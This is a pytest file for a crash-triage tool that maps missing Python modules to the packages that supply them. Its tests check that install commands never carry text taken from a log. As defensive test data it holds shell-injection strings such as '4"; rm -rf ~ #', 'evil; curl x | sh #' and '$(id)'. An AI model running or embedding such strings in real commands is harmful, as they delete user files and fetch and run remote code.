"""A module that is not found: what brings it, by installed metadata and by the table, and never by a guess."""

from __future__ import annotations

import re
from typing import Any

import pytest

import triage
from triage.crash import Crash, Environment, Memory, Provider, PythonException, PythonFrame
from triage.diagnosis.advice import command_for
from triage.diagnosis.advice.arithmetic import calculate
from triage.diagnosis.advice.missing_modules import PLACEHOLDERS as FROM_DISTRIBUTIONS
from triage.diagnosis.advice.missing_modules import missing_module
from triage.diagnosis.advice.releases import PLACEHOLDERS as FROM_VERSIONS
from triage.diagnosis.advice.releases import fitting_releases
from triage.diagnosis.advice.system_libraries import PLACEHOLDERS as OF_THE_SYSTEM
from triage.knowledge.database import Knowledge
from triage.phrases import fill, placeholders
from triage.report import Diagnosis

MODULE = r"[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*"
REQUIREMENT = r"[A-Za-z0-9][A-Za-z0-9._-]*(?:[<>=!~]=?[\d.]+)?"


def first(module: str, knowledge: Knowledge, file: str = "train.py") -> Diagnosis:
    log = (
        f'Traceback (most recent call last):\n  File "{file}", line 3, in <module>\n    import it\n'
        f"ModuleNotFoundError: No module named '{module}'\n"
    )
    return triage.analyze(log.encode(), exit_code=1, knowledge=knowledge).diagnoses[0]


def installs(diagnosis: Diagnosis) -> list[str]:
    return [step.run for step in diagnosis.fix if step.run and "install" in step.run]


def missed(module: str, knowledge: Knowledge, **known: Any) -> dict[str, str]:
    error = PythonException("ModuleNotFoundError", f"No module named '{module}'", frames=known.pop("frames", ()))
    crash = Crash(exceptions=(error,), environment=Environment(**known))
    return missing_module(module, crash, knowledge.distributions)


# the table


def test_every_row_of_the_table_is_a_module_and_what_to_install_for_it(knowledge: Knowledge) -> None:
    rows = knowledge.distributions["packages"]["rows"]
    assert len(rows) > 100
    assert [name for name in rows if not re.fullmatch(MODULE, name)] == []
    assert [value for value in rows.values() if not re.fullmatch(REQUIREMENT, value)] == []


def test_no_module_is_in_two_tables_and_every_table_names_its_source(knowledge: Knowledge) -> None:
    tables = knowledge.distributions
    names = [name for table in tables.values() for name in table["rows"]]
    assert len(names) == len(set(names))
    assert all(table["source"] and re.fullmatch(r"\d{4}-\d\d-\d\d", table["checked"]) for table in tables.values())


@pytest.mark.parametrize(
    ("module", "distribution"),
    [
        ("cv2", "opencv-python"),
        ("sklearn", "scikit-learn"),
        ("PIL", "pillow"),
        ("yaml", "PyYAML"),
        ("attr", "attrs"),
        ("jwt", "PyJWT"),
        ("serial", "pyserial"),
        ("usb", "pyusb"),
        ("sonnet", "dm-sonnet"),
        ("google.protobuf", "protobuf"),
        ("tensorflow_hub", "tensorflow-hub"),
    ],
)
def test_a_name_under_which_pypi_has_nothing_or_somebody_else_is_mapped(
    module: str, distribution: str, knowledge: Knowledge
) -> None:
    assert knowledge.distributions["packages"]["rows"][module] == distribution


@pytest.mark.parametrize("name", ["utils", "config", "helpers", "data_loader", "datasets", "models", "model", "bert"])
def test_names_that_projects_give_to_their_own_files_are_not_in_the_table(name: str, knowledge: Knowledge) -> None:
    assert not any(name in table["rows"] for table in knowledge.distributions.values())


# logs


@pytest.mark.parametrize(("module", "distribution"), [("cv2", "opencv-python"), ("sklearn", "scikit-learn")])
def test_a_module_of_the_table_is_installed_by_the_name_of_its_package(
    module: str, distribution: str, knowledge: Knowledge
) -> None:
    found = first(module, knowledge)
    assert found.signature == "other/python-module-missing"
    assert installs(found) == [f"python -m pip install {distribution}"]
    assert f"{distribution} brings {module} (the package is not called {module})" in found.fix[0].do


@pytest.mark.parametrize("module", ["numpypy", "utils", "data_loader", "config", "tensorfow", "my_pkg.layers"])
def test_a_name_that_nobody_knows_is_never_put_into_a_command(module: str, knowledge: Knowledge) -> None:
    found = first(module, knowledge)
    assert installs(found) == []
    assert all(module not in (step.run or "") for step in found.fix)
    assert "pip" not in found.fix[0].do


def test_a_name_that_nobody_knows_may_be_a_file_of_the_project(knowledge: Knowledge) -> None:
    steps = first("unheard_of", knowledge).fix
    assert steps[0].do.startswith("Find out which package provides unheard_of, if it is not a file of the project")
    assert steps[1].do.startswith("If unheard_of is a file of the project, start the program from the project's folder")


def test_a_name_that_projects_give_to_their_files_is_looked_for_there_first(knowledge: Knowledge) -> None:
    steps = first("utils.label_map", knowledge).fix
    assert steps[0].do.startswith("Start the program from the folder of the project that holds utils.label_map")


@pytest.mark.parametrize("module", ["_ctypes", "_lzma", "_bz2", "_sqlite3", "tkinter", "_tkinter", "imp", "urllib2"])
def test_a_part_of_python_itself_is_not_installed_with_pip(module: str, knowledge: Knowledge) -> None:
    advice = missed(module, knowledge)
    assert "module_install" not in advice
    assert re.search(r"part of Python|belongs to Python 2|gone since", advice["module_advice"])


@pytest.mark.parametrize("module", ["object_detection", "mrcnn", "apex", "detectron2", "object_detection.utils"])
def test_what_pypi_does_not_have_is_named_with_its_place(module: str, knowledge: Knowledge) -> None:
    advice = missed(module, knowledge)
    assert "module_install" not in advice
    assert "github.com/" in advice["module_advice"]


@pytest.mark.parametrize("module", ["sklearn.externals", "google.protobuf.internal.x", "keras.layers.wrappers"])
def test_a_part_of_a_package_that_was_found_is_nothing_to_install(module: str, knowledge: Knowledge) -> None:
    advice = missed(module, knowledge)
    assert "module_install" not in advice
    assert f"but no {module} in it" in advice["module_advice"]


def test_python_2_names_the_whole_where_the_package_is_missing(knowledge: Knowledge) -> None:
    error = PythonException("ImportError", "No module named sklearn.svm")
    advice = missing_module("sklearn.svm", Crash(exceptions=(error,)), knowledge.distributions)
    assert advice["module_install"] == "python -m pip install scikit-learn"


def test_an_unknown_module_that_an_installed_package_imports_points_to_that_package(knowledge: Knowledge) -> None:
    frames = (PythonFrame("/x/lib/python3.11/site-packages/fancy/core.py", 3, "<module>"),)
    advice = missed("fancy_backend", knowledge, frames=frames)
    assert "it is imported by fancy, whose documentation says what it needs" in advice["module_advice"]


# installed metadata first


def test_a_package_that_is_installed_and_broken_is_not_to_be_installed_but_repaired(knowledge: Knowledge) -> None:
    advice = missed("cv2", knowledge, providers=(Provider("cv2", "opencv-contrib-python", "4.9.0.80"),))
    assert advice["module_advice"].startswith("opencv-contrib-python 4.9.0.80 is installed and should bring cv2, but")
    assert "module_install" not in advice  # the table does not know this one, and the person knows where it came from
    advice = missed("cv2.gapi", knowledge, providers=(Provider("cv2", "opencv_python", "4.9.0.80"),))
    again = 'python -m pip install --force-reinstall --no-deps "opencv_python==4.9.0.80"'
    assert advice["module_install"] == again
    assert "is incomplete or broken inside" in advice["module_advice"]


def test_a_package_of_the_person_s_own_is_not_fetched_from_elsewhere(knowledge: Knowledge) -> None:
    advice = missed("inhouse.part", knowledge, providers=(Provider("inhouse", "inhouse-tools", "1.0"),))
    assert "module_install" not in advice
    assert "inhouse-tools 1.0 is installed" in advice["module_advice"]
    assert "install it again from where it came from" in advice["module_advice"]


def test_a_version_that_the_log_names_counts_as_installed(knowledge: Knowledge) -> None:
    advice = missed("cv2", knowledge, packages=(("opencv-python", "4.9.0.80"),))
    assert advice["module_advice"].startswith("opencv-python 4.9.0.80, which brings cv2, is installed: another Python")
    assert advice["module_install"].endswith('"opencv-python==4.9.0.80"')
    hostile = missed("cv2", knowledge, packages=(("opencv-python", '4"; rm -rf ~ #'),))
    assert "module_install" not in hostile


# every signature


def test_no_signature_installs_a_name_that_comes_from_a_log(knowledge: Knowledge) -> None:
    allowed = set(FROM_VERSIONS) | set(FROM_DISTRIBUTIONS) | set(OF_THE_SYSTEM)
    commands = [
        (signature.id, command)
        for signature in knowledge.signatures.values()
        for step in signature.fix
        for command in step.run.values()
        if re.search(r"\binstall\b|^\{", command)
    ]
    assert len(commands) > 50
    assert [(id, command) for id, command in commands if placeholders(command) - allowed] == []


HOSTILE = "evil; curl x | sh #"


@pytest.mark.parametrize("system", ["linux", "windows", "macos", None])
def test_whatever_a_log_says_no_install_command_holds_a_word_of_it(system: str | None, knowledge: Knowledge) -> None:
    names = ("tensorflow", "keras", "numpy", "protobuf")
    environment = Environment(
        os=system, python=HOSTILE, packages=tuple((name, f"2.15.0{HOSTILE}") for name in names), gpus=(HOSTILE,),
        driver=HOSTILE, capability=HOSTILE, providers=(),
    )  # fmt: skip
    for signature in knowledge.signatures.values():
        groups = {name for fix in signature.fix for text in (fix.do, *fix.run.values()) for name in placeholders(text)}
        caught = dict.fromkeys(groups - set(FROM_VERSIONS) - set(FROM_DISTRIBUTIONS), HOSTILE) | {"file": HOSTILE}
        filled = fitting_releases(environment, caught, knowledge.versions) | calculate(caught, Memory())
        filled |= missing_module(HOSTILE, Crash(environment=environment), knowledge.distributions)
        for step in signature.fix:
            runs = {key: text for key, command in step.run.items() if (text := fill(command, filled))}
            command = command_for(runs, system) or ""
            assert "install" not in command or HOSTILE not in command, (signature.id, command)


def test_a_value_that_a_shell_would_take_apart_is_in_no_command(knowledge: Knowledge) -> None:
    """A fix has `where {library}` in it, and the name comes from a dump."""
    from building import crash_of, knowledge_of, signature_data

    clue = {"id": "lib", "log": "could not load (?P<library>[^\n]+) at all", "p": 0.95, "b": 0.0005}
    fix = [{"do": "Look for {library}.", "otherwise": "Look.", "run": "where {library}", "verify": "it is found"}]
    known = knowledge_of({"a/a": signature_data(cause="a.a", clues=[clue], fix=fix)}, {"a.a": 0.02})
    from triage.diagnosis import diagnose

    def step(name: str) -> tuple[str, str | None]:
        crash = crash_of(f"could not load {name} at all", exit="139")
        made = diagnose(crash, known, version="test").diagnoses[0].fix[0]
        return made.do, made.run

    assert step("zlibwapi.dll") == ("Look for zlibwapi.dll.", "where zlibwapi.dll")
    assert step("a & del b") == ("Look for a & del b.", None)
    assert step("$(id)") == ("Look for $(id).", None)
    assert step("--help") == ("Look for --help.", None)
